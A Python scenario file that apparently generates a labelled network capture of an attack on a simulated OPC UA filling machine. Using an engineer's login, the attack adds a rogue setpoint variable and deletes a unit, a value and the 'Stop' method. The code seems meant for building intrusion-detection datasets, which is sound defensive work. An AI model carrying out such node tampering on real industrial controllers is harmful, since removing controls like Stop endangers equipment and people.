"""With an engineer's password, a laptop adds a node to the filler's address space and deletes others."""

from __future__ import annotations

from pcaps.scenarios.rig.line import make_scenario
from pcaps.scenarios.rig.machine import FILLING, node_id, top_id
from pcaps.scenarios.rig.stage import Stage
from pcaps.scenarios.rig.supervisor import Login, open_client, server_url


async def attack(stage: Stage) -> None:
    """Add a variable beside the set points, then delete a unit, a value and the method Stop."""
    await stage.until(30)
    stage.mark()
    async with open_client(stage, server_url(FILLING), Login("uaexpert", "Sign", "engineer")) as client:
        top = client.get_node(top_id(FILLING))
        await top.add_variable(node_id(FILLING, "SpeedSetpoint2"), "2:SpeedSetpoint2", 0.0)
        await stage.until(55)
        stage.mark()
        for name in ("Unit3", "Unit4.Value0", "Stop"):
            await client.delete_nodes([client.get_node(node_id(FILLING, name))])
            await stage.wait(5)


SCENARIO = make_scenario("opcua_node_tampering.pcap.gz", 38, 100, {"laptop": attack}, strangers=("laptop",))
